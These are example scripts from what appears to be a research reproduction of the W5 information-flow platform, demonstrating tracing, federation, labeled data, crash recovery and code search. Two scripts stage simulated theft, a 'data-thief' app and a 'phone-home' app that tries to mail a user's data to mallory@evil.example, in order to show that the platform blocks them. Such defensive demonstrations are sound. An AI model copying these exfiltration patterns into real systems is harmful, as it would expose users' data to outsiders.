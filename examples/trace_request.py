#!/usr/bin/env python3
"""End-to-end request tracing: span trees for every layer of W5.

Builds a traced provider, drives a handful of requests (including one
denied export), then shows what the observability stack keeps:

1. the text span tree of a full labeled read — gateway admission,
   kernel pool checkout, app execution, db scan, export check, egress;
2. the denied request's error trace, correlated with the audit log by
   trace id (the W5 accountability story: "why was my export
   refused?" answered with the exact span that denied it);
3. per-span-name latency percentiles (p50/p95/p99);
4. a Chrome trace-event JSON artifact — load it in Perfetto or
   chrome://tracing to see the request timelines.

Run: ``python examples/trace_request.py [out.json]``
(writes the Chrome trace to ``out.json``, default
``trace_request.json``; CI uploads this artifact on every push)
"""

import json
import sys

from repro import W5System
from repro.obs import chrome_trace, render_text, trace_to_dict, \
    validate_chrome_trace


def main() -> None:
    out_path = sys.argv[1] if len(sys.argv) > 1 else "trace_request.json"

    w5 = W5System(tracing=True)
    # demo setting: carry detail spans (gateway.admission,
    # kernel.checkout) on every trace, not just the 1-in-16 sampled
    # ones, so the printed trees show the full taxonomy
    w5.provider.tracer.fold_every = 1
    bob = w5.add_user("bob", apps=["blog", "photo-share"],
                      friends=["amy"])
    amy = w5.add_user("amy", apps=["blog", "photo-share"],
                      friends=["bob"])
    eve = w5.add_user("eve", apps=["photo-share"])

    print("== driving requests ==")
    bob.get("/app/blog/post", title="t0", body="hello world")
    bob.get("/app/photo-share/upload", filename="beach.jpg",
            data="<jpeg: bob at the beach>")
    amy.get("/app/photo-share/view", owner="bob", filename="beach.jpg")
    r = eve.get("/app/photo-share/view", owner="bob",
                filename="beach.jpg")
    assert r.status == 403, "eve is not bob's friend"

    recorder = w5.provider.recorder

    print("\n== span tree: amy's allowed photo view ==")
    allowed = next(t for t in recorder.traces()
                   if "view" in t.name and not t.error)
    print(render_text(trace_to_dict(allowed)))

    print("\n== span tree: eve's denied view (the error trace) ==")
    denied = next(t for t in recorder.errors() if "view" in t.name)
    print(render_text(trace_to_dict(denied)))

    print("\n== audit events correlated with the denied trace ==")
    for event in w5.audit():
        if event.extra.get("trace_id") == denied.trace_id:
            print(f"   span {event.extra['span_id']:>2}  {event!r}")

    print("\n== span latency percentiles ==")
    for name, st in w5.provider.tracer.latencies().items():
        print(f"   {name:<24} n={st['count']:<3} "
              f"p50={st['p50_us']:8.1f}us  p95={st['p95_us']:8.1f}us  "
              f"p99={st['p99_us']:8.1f}us")

    doc = chrome_trace([trace_to_dict(t) for t in recorder.traces()])
    assert validate_chrome_trace(doc) is None
    with open(out_path, "w") as fh:
        json.dump(doc, fh, indent=1)
    print(f"\n== wrote {len(doc['traceEvents'])} Chrome trace events "
          f"to {out_path} ==")
    print("   (open in https://ui.perfetto.dev or chrome://tracing)")


if __name__ == "__main__":
    main()
