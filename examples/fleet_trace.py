#!/usr/bin/env python3
"""Fleet-wide observability: one trace tree across shards + providers.

Builds the two fan-out topologies M16 stitches back together:

1. a 4-shard :class:`ShardedProvider` — a traced batch fans across
   shards, and the router's ``router.batch`` trace grafts every
   shard's request tree under one root;
2. a 2-provider :class:`FederationFabric` — a ``sync_user`` round
   carries the ``fed.sync`` root's context across the link, so the
   destination provider's ``fed.envelope`` span re-parents under it;

then shows the fleet surfaces built on top: the merged
``trace_report``, the :class:`FleetRegistry` metrics merge with its
Prometheus exposition, the health rollup through a crash/recover
cycle, and a combined Chrome trace artifact (load it in Perfetto or
chrome://tracing; CI uploads it on every push).

Run: ``python examples/fleet_trace.py [out.json]``
(writes the Chrome trace to ``out.json``, default ``fleet_trace.json``)
"""

import json
import sys

from repro.apps import install_standard_apps
from repro.core import Metrics
from repro.federation import FederationFabric
from repro.net import ExternalClient
from repro.net.http import HttpRequest
from repro.obs import (FleetRegistry, chrome_trace, render_text,
                       validate_chrome_trace)
from repro.platform import ShardedProvider


def sharded_batch_trace() -> list[dict]:
    """Drive a cross-shard batch; return the stitched trace dicts."""
    print("== 4-shard batch: one stitched router.batch tree ==")
    sp = ShardedProvider(n_shards=4, engine="serial", tracing=True)
    sp.tracer.fold_every = 1
    install_standard_apps(sp)
    users = ["alice", "bob", "carol", "dave", "erin", "frank"]
    clients = {}
    for u in users:
        c = ExternalClient(u, sp.transport())
        c.post("/signup", params={"username": u, "password": "pw"})
        c.login("pw")
        c.post("/policy/enable", params={"app": "blog"})
        clients[u] = c
    reqs = [HttpRequest("POST", "/app/blog/post",
                        params={"title": f"{u}-day1", "body": "..."},
                        cookies=dict(clients[u].cookies))
            for u in users]
    resps = sp.handle_batch(reqs)
    assert all(r.status == 200 for r in resps)

    batches = [t for t in sp.recorder.dump()["slowest"]
               if t["root"] and t["root"]["name"] == "router.batch"]
    (batch,) = batches
    print(render_text(batch))
    print(f"-> {batch['grafts']} request trees grafted from "
          f"{batch['root']['attrs']['shards']} shards, "
          f"{batch['orphan_grafts']} orphans")

    report = sp.trace_report()
    print(f"-> merged report: {report['stats']['traces_finished']} "
          f"traces across {len(report['shards'])} shards, "
          f"{len(report['latencies'])} span names")

    print("\n== fleet metrics registry ==")
    registry = FleetRegistry()
    for k, shard in enumerate(sp.shards):
        registry.attach(f"shard:{k}",
                        Metrics(shard.kernel.audit).attach(shard))
    registry.attach_health("deployment", sp)
    # observe a second batch so the shard Metrics see live traffic
    sp.handle_batch([
        HttpRequest("GET", "/app/blog/list",
                    cookies=dict(clients[u].cookies))
        for u in users])
    snapshot = registry.snapshot()
    top = dict(sorted(snapshot["counters"].items(),
                      key=lambda kv: -kv[1])[:3])
    print(f"-> merged counters over {len(snapshot['members'])} members"
          f" (top 3): {top}")
    exposition = registry.prometheus()
    print("-> prometheus exposition (first lines):")
    for line in exposition.splitlines()[:6]:
        print(f"   {line}")
    print(f"-> health: {registry.health_report()['state']}")
    return batches


def federated_sync_trace() -> list[dict]:
    """Crash/recover a fabric; return the stitched fed.sync traces."""
    print("\n== 2-provider federation: fed.sync across the link ==")
    fabric = FederationFabric(2, tracing=True)
    for provider in fabric.providers:
        provider.tracer.fold_every = 1
    home = fabric.signup("grace", "pw")
    fabric.mirror("grace", 1 - home)
    fabric.store_user_data("grace", "notes", "v1")
    fabric.sync_user("grace")
    # dirty the home copy so the next round ships an envelope batch
    from repro.fs import FsView
    provider = fabric.provider(home)
    agent = provider._user_agent(provider.account("grace"))
    FsView(provider.fs, agent).write("/users/grace/notes", "v2")
    provider.kernel.exit(agent)
    fabric.sync_user("grace")

    lower = fabric.provider(0)
    syncs = [t for t in lower.recorder.dump()["slowest"]
             if t["root"] and t["root"]["name"] == "fed.sync"]
    print(render_text(syncs[-1]))
    grafted = sum(t.get("grafts", 0) for t in syncs)
    print(f"-> {len(syncs)} fed.sync trees kept, {grafted} remote "
          f"envelope spans grafted across the link")

    print("\n== health through a crash/recover cycle ==")
    for step in ("baseline", "crash", "recover", "sync"):
        if step == "crash":
            fabric.crash(home)
        elif step == "recover":
            fabric.recover(home)
        elif step == "sync":
            fabric.sync_user("grace")
        report = fabric.health_report()
        link = report["links"]["link:0<->1"]
        print(f"   after {step:<8} fleet={report['state']:<9} "
              f"provider:{home}="
              f"{report['providers'][f'provider:{home}']['state']:<9} "
              f"link={link['state']}"
              + (f"  ({link['reasons'][0]})" if link["reasons"] else ""))
    assert report["state"] == "ok"
    return syncs


def main() -> None:
    out_path = sys.argv[1] if len(sys.argv) > 1 else "fleet_trace.json"
    traces = sharded_batch_trace() + federated_sync_trace()

    doc = chrome_trace(traces, process_name="w5-fleet")
    error = validate_chrome_trace(doc)
    assert error is None, error
    with open(out_path, "w") as f:
        json.dump(doc, f)
    print(f"\nwrote {len(doc['traceEvents'])} Chrome trace events "
          f"({len(traces)} stitched trees) to {out_path}")


if __name__ == "__main__":
    main()
