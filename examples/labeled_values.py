#!/usr/bin/env python3
"""Language-level DIFC: the paper's 'alternate architecture' (§3.1).

Walks through :mod:`repro.lang`:

1. taint propagation through arithmetic and functions;
2. the implicit-flow guard (you cannot ``if`` on a secret);
3. explicit declassification;
4. the granularity payoff: a mixed feed partially exported, and the
   same feed served live by the provider's ``/feed`` route.

Run: ``python examples/labeled_values.py``
"""

from repro import W5System
from repro.labels import CapabilitySet, Label, TagRegistry, minus
from repro.lang import (ImplicitFlowError, LabeledList, declassify,
                        export, lift, lmap, lselect)


def main() -> None:
    reg = TagRegistry()
    bob_tag = reg.create(purpose="bob-data", owner="bob")

    print("== 1. taint propagates through computation ==")
    salary = lift(95_000, Label([bob_tag]))
    bonus = salary * 0.1
    total = salary + bonus
    print(f"   total.peek() = {total.peek():.0f}, label carries tag "
          f"{[t.purpose for t in total.label]}")

    print("== 2. implicit flows are blocked ==")
    rich = lmap(lambda s: s > 90_000, salary)
    try:
        if rich:
            pass
    except ImplicitFlowError as exc:
        print(f"   branching on a secret raises: {exc}")
    verdict = lselect(rich, "comfortable", "striving")
    print(f"   lselect instead: {verdict.peek()!r}, still labeled "
          f"{[t.purpose for t in verdict.label]}")

    print("== 3. explicit declassification ==")
    try:
        export(total, CapabilitySet.EMPTY)
    except Exception as exc:
        print(f"   export without authority: {type(exc).__name__}")
    cleared = declassify(total, Label([bob_tag]),
                         CapabilitySet([minus(bob_tag)]))
    print(f"   after bob's declassification: export -> "
          f"{export(cleared, CapabilitySet.EMPTY):.0f}")

    print("== 4. per-item export of a mixed feed ==")
    amy_tag = reg.create(purpose="amy-data", owner="amy")
    eve_tag = reg.create(purpose="eve-data", owner="eve")
    feed = LabeledList()
    feed.append(lift("amy: beach pics", Label([amy_tag])))
    feed.append(lift("eve: private rant", Label([eve_tag])))
    feed.append("provider: scheduled maintenance tonight")
    viewer_authority = CapabilitySet([minus(amy_tag)])
    delivered, withheld = feed.export_for(viewer_authority)
    print(f"   delivered: {delivered}")
    print(f"   withheld:  {withheld} item(s)")

    print("== 5. the same idea live, on the provider's /feed ==")
    w5 = W5System()
    bob = w5.add_user("bob", apps=["blog"], friends=["amy"])
    amy = w5.add_user("amy", apps=["blog"], friends=["bob"])
    eve = w5.add_user("eve", apps=["blog"])
    amy.get("/app/blog/post", title="amy-1", body="x")
    eve.get("/app/blog/post", title="eve-1", body="y")
    r = bob.get("/feed")
    print(f"   bob's universal feed: {r.body['feed']} "
          f"(+{r.body['withheld']} withheld)")

    print("\nOK: value-level labels deliver the authorized subset "
          "instead of all-or-nothing.")


if __name__ == "__main__":
    main()
