#!/usr/bin/env python3
"""Two W5 providers mirroring a linked account (§3.3).

bob keeps accounts on w5-alpha and w5-beta, links them, and grants the
sync declassifiers his privileges on both sides.  Edits on either
provider propagate; the mirror stays exactly as protected as the
original; an unlinked user's data never moves.

Run: ``python examples/federation_mirror.py``
"""

from repro.federation import ProviderLink, converged
from repro.fs import FsView
from repro.labels import SecrecyViolation
from repro.platform import Provider


def main() -> None:
    alpha = Provider(name="w5-alpha")
    beta = Provider(name="w5-beta")
    for p in (alpha, beta):
        p.signup("bob", "pw")
        p.signup("carol", "pw")

    print("== bob links his accounts and grants the sync agents ==")
    link = ProviderLink(alpha, beta)
    link.link_account("bob")
    link.grant_sync("bob")

    print("== bob writes on alpha; carol writes on alpha too ==")
    alpha.store_user_data("bob", "diary.txt", "day 1: hello alpha")
    alpha.store_user_data("carol", "notes.txt", "carol's private notes")

    moved = link.sync_user("bob")
    print(f"   sync round 1 moved {moved} file(s); "
          f"converged={converged(link, 'bob')}")
    print("   beta now has:", beta.read_user_data("bob", "diary.txt"))

    print("== bob edits on beta; the edit flows back ==")
    agent = beta._user_agent(beta.account("bob"))
    FsView(beta.fs, agent).write("/users/bob/diary.txt",
                                 "day 2: hello from beta")
    beta.kernel.exit(agent)
    moved = link.sync_user("bob")
    print(f"   sync round 2 moved {moved} file(s)")
    print("   alpha now has:", alpha.read_user_data("bob", "diary.txt"))

    print("== the mirror is still protected on beta ==")
    snoop = beta.kernel.spawn_trusted("eve-on-beta")
    try:
        FsView(beta.fs, snoop).read("/users/bob/diary.txt")
        print("   LEAK! (this should not happen)")
    except SecrecyViolation as exc:
        print(f"   stranger read denied: {exc}")

    print("== carol never linked: her data stayed put ==")
    try:
        beta.read_user_data("carol", "notes.txt")
        print("   LEAK! carol's data moved without consent")
    except Exception:
        print("   carol's notes are not on beta (as intended)")

    print("\nOK: linked data mirrors, unlinked data stays, "
          "policy holds everywhere.")


if __name__ == "__main__":
    main()
