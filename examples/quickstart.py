#!/usr/bin/env python3
"""Quickstart: a W5 provider, two users, one shared photo.

Runs the paper's core promise end to end in ~40 lines:

1. bob and amy sign up (each gets a data tag and a write tag);
2. bob uploads a photo through a developer-contributed app;
3. amy — bob's friend — can view it (his friends-only declassifier
   approves her at the perimeter);
4. eve — a stranger — gets a 403 and never sees a byte;
5. the audit log shows the denied export.

Run: ``python examples/quickstart.py``
"""

from repro import W5System


def main() -> None:
    w5 = W5System()

    print("== signing up bob, amy, eve ==")
    bob = w5.add_user("bob", apps=["photo-share"], friends=["amy"])
    amy = w5.add_user("amy", apps=["photo-share"], friends=["bob"])
    eve = w5.add_user("eve", apps=["photo-share"])

    print("== bob uploads a photo ==")
    r = bob.get("/app/photo-share/upload",
                filename="beach.jpg", data="<jpeg: bob at the beach>")
    print("   upload:", r.body)

    print("== amy (friend) views it ==")
    r = amy.get("/app/photo-share/view", owner="bob", filename="beach.jpg")
    print("   amy sees:", r.body["data"])
    assert r.ok

    print("== eve (stranger) tries ==")
    r = eve.get("/app/photo-share/view", owner="bob", filename="beach.jpg")
    print(f"   eve gets HTTP {r.status}: {r.body}")
    assert r.status == 403
    assert not eve.ever_received("<jpeg: bob at the beach>")

    print("== the perimeter's audit trail ==")
    for event in w5.audit().denials(category="export"):
        print("  ", event)

    print("\nOK: bob's data left the perimeter only toward bob and amy.")


if __name__ == "__main__":
    main()
