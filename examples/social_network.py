#!/usr/bin/env python3
"""A full social-network scenario over a synthetic population.

Loads a 12-user Watts–Strogatz world onto W5 (profiles, photos, blog
posts, friend edges, friends-only declassifiers), then demonstrates:

* the feed: an app commingling many users' data in one process;
* the recommender digest (the paper's §2 "daily e-mail" example),
  including a user-chosen scoring module;
* a malicious "data-thief" app that every victim enabled — and the
  zero records it manages to exfiltrate;
* module choice: switching photo croppers per user.

Run: ``python examples/social_network.py``
"""

from repro import W5System
from repro.workloads import make_social_world


def main() -> None:
    world = make_social_world(n_users=12, photos_per_user=2,
                              posts_per_user=2, seed=42)
    w5 = W5System(with_adversaries=True)
    print(f"== loading {len(world.users)} users onto W5 ==")
    w5.load_world(world)

    user = world.users[0]
    friends = world.friend_list(user)
    client = w5.client(user)
    print(f"   {user} has friends: {friends}")

    print("== the feed (one process, many users' data) ==")
    feed = client.get("/app/social/feed").body["feed"]
    print(f"   {user}'s feed has {len(feed)} items, e.g. {feed[:2]}")

    print("== the recommender digest (§2's example app) ==")
    for u in world.users:
        w5.client(u).post("/policy/enable", params={"app": "recommender"})
    digest = client.get("/app/recommender/digest", k=5).body
    print(f"   top-5 of {digest['considered']} candidate items:")
    for item in digest["digest"]:
        print(f"     {item['kind']:>5}  {item['author']}: {item['title']}")

    print("== switching scorer module (user choice, §2) ==")
    client.post("/policy/prefer", params={"slot": "scorer",
                                          "module": "score-verbose"})
    digest2 = client.get("/app/recommender/digest", k=5).body
    print(f"   with score-verbose: "
          f"{[i['kind'] for i in digest2['digest']]}")

    print("== mass data-theft attempt ==")
    for u in world.users:
        w5.provider.enable_app(u, "data-thief")  # everyone falls for it
    mallory = w5.add_user("mallory")
    stolen = 0
    for u in world.users:
        mallory.get("/app/data-thief/go", victim=u)
        if any(mallory.ever_received(p["bytes"])
               for p in world.photos[u]):
            stolen += 1
    print(f"   victims opted in: {len(world.users)}; "
          f"records reaching mallory: {stolen}")
    assert stolen == 0

    denied = w5.audit().count(category="export", allowed=False)
    print(f"\nOK: perimeter denied {denied} export attempts; "
          f"friends saw everything they should.")


if __name__ == "__main__":
    main()
