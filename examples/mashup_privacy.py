#!/usr/bin/env python3
"""The §4 mashup comparison: who learns your address book?

Runs the paper's address-book-on-a-map scenario on three platforms and
prints the leak ledger:

* status-quo browser mashup — names AND addresses go to the map corp;
* MashupOS — names hidden, addresses still go (the paper's point);
* W5 — the map module runs server-side, confined; nobody learns
  anything, and the page still renders.

Run: ``python examples/mashup_privacy.py``
"""

from repro import W5System
from repro.baselines import (AddressBookService, ApiMashup,
                             MapProviderServer, MashupOsMashup)

ENTRIES = [("mom", "12 Elm St"), ("dan", "9 Oak Ave")]


def run_baseline(mashup_cls) -> MapProviderServer:
    book = AddressBookService()
    maps = MapProviderServer()
    for name, addr in ENTRIES:
        book.add("bob", name, addr)
    page = mashup_cls(book, maps).render("bob")
    print(f"   page renders: {page[:60]}...")
    return maps


def main() -> None:
    print("== status-quo browser mashup ==")
    maps = run_baseline(ApiMashup)
    print(f"   map corp received names:     {maps.received_names}")
    print(f"   map corp received addresses: {maps.received_addresses}")

    print("== MashupOS-style mashup ==")
    maps = run_baseline(MashupOsMashup)
    print(f"   map corp received names:     {maps.received_names}")
    print(f"   map corp received addresses: {maps.received_addresses}")

    print("== the same mashup on W5 ==")
    w5 = W5System()
    bob = w5.add_user("bob", apps=["address-map"])
    for name, addr in ENTRIES:
        bob.get("/app/address-map/add", name=name, address=addr)
    r = bob.get("/app/address-map/map")
    print(f"   page renders server-side: {r.body['map'][:60]}...")
    print(f"   markers placed: {r.body['markers']}")

    # The map module's developer is just another user; what do they see?
    mapdev = w5.add_user("map-corp-employee")
    r = mapdev.get("/app/address-map/map")
    leaked = [x for name, addr in ENTRIES
              for x in (name, addr) if mapdev.ever_received(x)]
    print(f"   map developer's view of bob's book: {leaked or 'nothing'}")
    assert not leaked

    print("\nOK: on W5 the map code placed the markers but its "
          "developer learned nothing.")


if __name__ == "__main__":
    main()
