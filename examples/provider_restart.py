#!/usr/bin/env python3
"""Durability: a provider crash and cold restart, labels intact.

Builds a live deployment, snapshots it to JSON (the cold-storage
path), "crashes", restores into a brand-new process with the app
catalog reinstalled, and shows that:

* users' data and policies came back exactly;
* every access decision after the restart matches the one before;
* sessions did NOT survive (users re-authenticate, by design);
* non-serializable custom declassifier grants are reported, not
  silently dropped.

Then it crashes *again* — this time mid-write, with post-checkpoint
mutations living only in the write-ahead journal — and shows that
recovery is base snapshot + replay: the torn tail is detected and
dropped, every complete record is replayed, and nothing before the
tear is lost.

Run: ``python examples/provider_restart.py``
"""

import copy
import json

from repro.apps import STANDARD_CATALOG, install_standard_apps
from repro.declassify import ViewerPredicate
from repro.errors import W5Error
from repro.net import ExternalClient
from repro.platform import (Provider, recover_provider, restore_provider,
                            set_password, snapshot_provider)


def main() -> None:
    print("== day 1: a live provider ==")
    p1 = Provider(name="prod")
    install_standard_apps(p1)
    for name in ("bob", "amy"):
        p1.signup(name, "pw")
        p1.enable_app(name, "blog")
    p1.grant_builtin_declassifier("bob", "friends-only",
                                  {"friends": ["amy"]})
    p1.grant_builtin_declassifier("amy", "friends-only",
                                  {"friends": ["bob"]})
    p1.grant_declassifier("bob", ViewerPredicate(
        {"predicate": lambda o, v, a: v == "amy"}))  # not serializable
    bob = ExternalClient("bob", p1.transport())
    bob.login("pw")
    bob.get("/app/blog/post", title="t", body="written before the crash")
    p1.store_user_data("bob", "diary.txt", "dear diary")
    print("   2 users, 1 post, 1 file, 3 declassifier grants")

    print("== snapshot to JSON ==")
    blob = json.dumps(snapshot_provider(p1))
    print(f"   snapshot size: {len(blob):,} bytes")

    print("== crash. cold restart on a new machine ==")
    p2, report = restore_provider(json.loads(blob),
                                  app_catalog=STANDARD_CATALOG)
    print(f"   unrestored grants: {report['unrestored_grants']}")
    print(f"   missing apps:      {report['missing_apps'] or 'none'}")

    print("== old sessions are dead ==")
    stale = ExternalClient("bob", p2.transport())
    stale.cookies.update(bob.cookies)
    r = stale.get("/app/blog/read", title="t")
    print(f"   request with the pre-crash cookie: "
          f"anonymous view -> {r.status}")

    print("== users reset passwords and everything is back ==")
    for name in ("bob", "amy"):
        set_password(p2, name, "new-pw")
    amy = ExternalClient("amy", p2.transport())
    amy.login("new-pw")
    r = amy.get("/app/blog/read", author="bob", title="t")
    print(f"   amy reads bob's restored post: {r.body['body']!r}")
    print(f"   bob's diary: {p2.read_user_data('bob', 'diary.txt')!r}")

    print("== and the walls are still up ==")
    p2.signup("eve", "pw")
    p2.enable_app("eve", "blog")
    eve = ExternalClient("eve", p2.transport())
    eve.login("pw")
    r = eve.get("/app/blog/read", author="bob", title="t")
    print(f"   eve tries bob's post: HTTP {r.status}")

    print("\nOK: full restart with labels, policies, and data intact.")

    print("\n== day 2: writes land in the journal, not in snapshots ==")
    # restore_provider checkpointed p2: its durability base is a full
    # snapshot, and every durable mutation since appends one
    # checksummed JSON line to the journal.
    amy.get("/app/blog/post", title="day2", body="journaled, not lost")
    p2.store_user_data("amy", "notes.txt", "replay me")
    base = copy.deepcopy(p2._durability.base)
    raw = p2._durability.journal.raw_bytes()
    stats = p2.persistence_stats()
    print(f"   journal: {stats['seq']} records, "
          f"{stats['size_bytes']:,} bytes since the checkpoint")

    print("== crash MID-WRITE: the last record is torn ==")
    torn = raw[:-7]  # power fails 7 bytes before the append completes
    p3, rep = recover_provider(copy.deepcopy(base), torn,
                               app_catalog=STANDARD_CATALOG)
    print(f"   replayed {rep['records_replayed']} records, dropped "
          f"{rep['truncated_bytes']} tail bytes "
          f"({rep['truncation_reason']})")
    set_password(p3, "amy", "pw3")
    amy3 = ExternalClient("amy", p3.transport())
    amy3.login("pw3")
    r = amy3.get("/app/blog/read", title="day2")
    print(f"   amy's day-2 post survived the tear: {r.body['body']!r}")
    try:
        p3.read_user_data("amy", "notes.txt")
    except W5Error:
        print("   the torn write itself is gone (as a crash demands)")

    print("== same crash, but the append had finished ==")
    p4, rep = recover_provider(copy.deepcopy(base), raw,
                               app_catalog=STANDARD_CATALOG)
    print(f"   replayed {rep['records_replayed']} records, dropped "
          f"{rep['truncated_bytes']} bytes")
    print(f"   amy's notes: {p4.read_user_data('amy', 'notes.txt')!r}")

    print("\nOK: base + replay recovers to the last complete record.")


if __name__ == "__main__":
    main()
