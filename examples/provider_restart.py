#!/usr/bin/env python3
"""Durability: a provider crash and cold restart, labels intact.

Builds a live deployment, snapshots it to JSON (the cold-storage
path), "crashes", restores into a brand-new process with the app
catalog reinstalled, and shows that:

* users' data and policies came back exactly;
* every access decision after the restart matches the one before;
* sessions did NOT survive (users re-authenticate, by design);
* non-serializable custom declassifier grants are reported, not
  silently dropped.

Run: ``python examples/provider_restart.py``
"""

import json

from repro.apps import STANDARD_CATALOG, install_standard_apps
from repro.declassify import ViewerPredicate
from repro.net import ExternalClient
from repro.platform import (Provider, restore_provider, set_password,
                            snapshot_provider)


def main() -> None:
    print("== day 1: a live provider ==")
    p1 = Provider(name="prod")
    install_standard_apps(p1)
    for name in ("bob", "amy"):
        p1.signup(name, "pw")
        p1.enable_app(name, "blog")
    p1.grant_builtin_declassifier("bob", "friends-only",
                                  {"friends": ["amy"]})
    p1.grant_builtin_declassifier("amy", "friends-only",
                                  {"friends": ["bob"]})
    p1.grant_declassifier("bob", ViewerPredicate(
        {"predicate": lambda o, v, a: v == "amy"}))  # not serializable
    bob = ExternalClient("bob", p1.transport())
    bob.login("pw")
    bob.get("/app/blog/post", title="t", body="written before the crash")
    p1.store_user_data("bob", "diary.txt", "dear diary")
    print("   2 users, 1 post, 1 file, 3 declassifier grants")

    print("== snapshot to JSON ==")
    blob = json.dumps(snapshot_provider(p1))
    print(f"   snapshot size: {len(blob):,} bytes")

    print("== crash. cold restart on a new machine ==")
    p2, report = restore_provider(json.loads(blob),
                                  app_catalog=STANDARD_CATALOG)
    print(f"   unrestored grants: {report['unrestored_grants']}")
    print(f"   missing apps:      {report['missing_apps'] or 'none'}")

    print("== old sessions are dead ==")
    stale = ExternalClient("bob", p2.transport())
    stale.cookies.update(bob.cookies)
    r = stale.get("/app/blog/read", title="t")
    print(f"   request with the pre-crash cookie: "
          f"anonymous view -> {r.status}")

    print("== users reset passwords and everything is back ==")
    for name in ("bob", "amy"):
        set_password(p2, name, "new-pw")
    amy = ExternalClient("amy", p2.transport())
    amy.login("new-pw")
    r = amy.get("/app/blog/read", author="bob", title="t")
    print(f"   amy reads bob's restored post: {r.body['body']!r}")
    print(f"   bob's diary: {p2.read_user_data('bob', 'diary.txt')!r}")

    print("== and the walls are still up ==")
    p2.signup("eve", "pw")
    p2.enable_app("eve", "blog")
    eve = ExternalClient("eve", p2.transport())
    eve.login("pw")
    r = eve.get("/app/blog/read", author="bob", title="t")
    print(f"   eve tries bob's post: HTTP {r.status}")

    print("\nOK: full restart with labels, policies, and data intact.")


if __name__ == "__main__":
    main()
