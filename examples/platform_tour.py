#!/usr/bin/env python3
"""A tour of the platform features beyond the core data flow.

Covers, in order:

1. **forking & versioning** (§2): a developer forks the photo app,
   a user switches to the fork with one preference;
2. **integrity protection** (§3.1): a cautious user requires endorsed
   components; unaudited apps stop launching for her;
3. **sanitized crash reports** (§3.5 Debugging): the developer learns
   where their app crashed, never what data it held;
4. **the email exit** (§2/§3.1): the digest mails itself to its owner,
   and a phone-home app fails to mail the loot to its author;
5. **code search** (§3.2): the provider's /search ranking.

Run: ``python examples/platform_tour.py``
"""

from repro import W5System
from repro.platform import AppModule


def main() -> None:
    w5 = W5System(with_adversaries=True)
    provider = w5.provider
    bob = w5.add_user("bob", apps=["photo-share", "blog", "social",
                                   "recommender"], friends=["amy"])
    amy = w5.add_user("amy", apps=["photo-share", "blog", "social",
                                   "recommender"], friends=["bob"])

    print("== 1. forking and version pinning ==")
    def crop_vintage(ctx, data, width, height):
        return f"cropped[{width}x{height},vintage]:{data}"
    provider.fork_app("crop-basic", "indie-dev", new_name="crop-vintage",
                      handler=crop_vintage,
                      description="fork of devA/crop-basic, film look")
    bob.get("/app/photo-share/upload", filename="pic.jpg", data="RAW")
    bob.post("/policy/prefer", params={"slot": "cropper",
                                       "module": "crop-vintage"})
    bob.get("/app/photo-share/crop", filename="pic.jpg", width=80,
            height=60)
    print("   bob's photo after the forked cropper:",
          bob.get("/app/photo-share/view", filename="pic.jpg").body["data"])

    print("== 2. integrity protection ==")
    amy.post("/policy/integrity", params={"require_endorsed": True})
    r = amy.get("/app/photo-share/list")
    print(f"   amy (strict) launching unendorsed photo-share: "
          f"HTTP {r.status}")
    for module in ("photo-share", "crop-basic"):
        provider.endorse_module(module, endorser="w5-weekly")
    r = amy.get("/app/photo-share/list")
    print(f"   after the provider endorses it + its imports: "
          f"HTTP {r.status}")

    print("== 3. crash reports without user data ==")
    def buggy(ctx):
        secret = "AMYS-PASSWORD-HUNTER2"
        raise KeyError(f"lookup failed for {secret}")
    provider.register_app(AppModule("buggy", "devD", buggy))
    provider.enable_app("amy", "buggy")
    amy.post("/policy/integrity", params={"require_endorsed": False})
    amy.get("/app/buggy/go")
    report = provider.debug.reports_for("devD")[0]
    print(f"   devD's crash report: {report.exception_type} at "
          f"{report.location()}")
    print(f"   secret in report? "
          f"{'AMYS-PASSWORD' in repr(report)}")

    print("== 4. the email exit ==")
    amy.get("/app/blog/post", title="news", body="amy's day")
    bob.get("/app/social/befriend", friend="amy")
    bob.get("/app/recommender/email")
    inbox = provider.email.mailbox("bob@w5").messages
    print(f"   bob@w5 inbox: {len(inbox)} message(s), subject "
          f"{inbox[0].subject!r}")
    provider.enable_app("bob", "phone-home")
    r = bob.get("/app/phone-home/go", victim="bob")
    evil = provider.email.mailbox("mallory@evil.example").messages
    print(f"   phone-home app mailing bob's data to its author: "
          f"HTTP {r.status}, mallory's inbox: {len(evil)} message(s)")

    print("== 5. code search ==")
    provider.editors.editor("w5-weekly").endorse("photo-share")
    for entry in provider.code_search(k=5):
        print(f"   {entry['score']:.3f}  {entry['name']:<16} "
              f"({entry['developer']})")

    print("== 6. group spaces (the 'roommates' policy) ==")
    carl = w5.add_user("carl", apps=["club-board"])
    provider.enable_app("bob", "club-board")
    provider.enable_app("amy", "club-board")
    provider.groups.create("bob", "roommates")
    provider.groups.add_member("bob", "roommates", "amy", writer=True)
    bob.get("/app/club-board/post", group="roommates",
            text="rent due friday")
    r = amy.get("/app/club-board/read", group="roommates")
    print(f"   amy (member) reads the board: {r.body['board']}")
    r = carl.get("/app/club-board/read", group="roommates")
    print(f"   carl (outsider) gets: HTTP {r.status}")

    print("== 7. the right to leave ==")
    erased = provider.delete_account("carl")
    print(f"   carl deleted his account: {erased}")
    print(f"   remaining users: {provider.usernames()}")

    print("\nOK: forks, endorsements, safe debugging, checked email, "
          "ranked search, group spaces, and deletion all behave.")


if __name__ == "__main__":
    main()
