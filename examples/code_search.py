#!/usr/bin/env python3
"""Code search over a module ecosystem (§3.2).

Builds a ground-truthed synthetic registry (a planted quality core, a
spam clique with fabricated usage, a long filler tail) and compares
three rankers: raw popularity, uniform PageRank, adoption-personalized
CodeRank.  Also shows editors and the blended trust score.

Run: ``python examples/code_search.py``
"""

from repro.search import (DependencyGraph, EditorBoard, TrustScorer,
                          coderank, popularity_rank, precision_at_k, top_k)
from repro.workloads import make_module_ecosystem


def main() -> None:
    eco = make_module_ecosystem(n_apps=60, n_core=6, n_spam=8, seed=3)
    dg = DependencyGraph(graph=eco.graph)
    candidates = (eco.planted_core | eco.spam_clique
                  | {m for m in eco.modules if m.startswith("filler-")})
    k = len(eco.planted_core)
    print(f"== ecosystem: {len(eco.modules)} modules, ground-truth "
          f"core = {sorted(eco.planted_core)} ==")

    rankers = {
        "popularity (self-reported)": popularity_rank(eco.usage_counts),
        "uniform PageRank": coderank(dg),
        "personalized CodeRank": coderank(
            dg, personalization=eco.adoption_counts),
    }
    for name, scores in rankers.items():
        picks = top_k(scores, k, restrict_to=candidates)
        p = precision_at_k(scores, eco.planted_core, k,
                           restrict_to=candidates)
        print(f"   {name:<28} top-{k}: {picks}  precision={p:.2f}")

    print("== editors + blended trust score ==")
    board = EditorBoard()
